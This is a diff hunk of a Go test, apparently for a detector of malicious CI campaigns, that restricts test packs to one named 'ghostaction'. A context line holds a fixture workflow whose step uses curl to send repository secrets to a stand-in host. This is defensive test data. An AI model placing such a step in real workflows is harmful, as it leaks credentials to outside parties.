@@ -96,6 +96,7 @@ func known(t testing.TB) (map[evidence.OID]Finding, []campaign.Pack) {
 	if err != nil {
 		t.Fatal(err)
 	}
+	packs = slices.DeleteFunc(packs, func(p campaign.Pack) bool { return p.Name != "ghostaction" })
 	quiet := "on: push\njobs: {a: {runs-on: x, steps: [{run: \"curl -d 'A=${{ secrets.A }}&B=${{ secrets.B }}' https://drop.example.invalid\"}]}}\n"
 	out := map[evidence.OID]Finding{}
 	for _, f := range Versions([]Version{
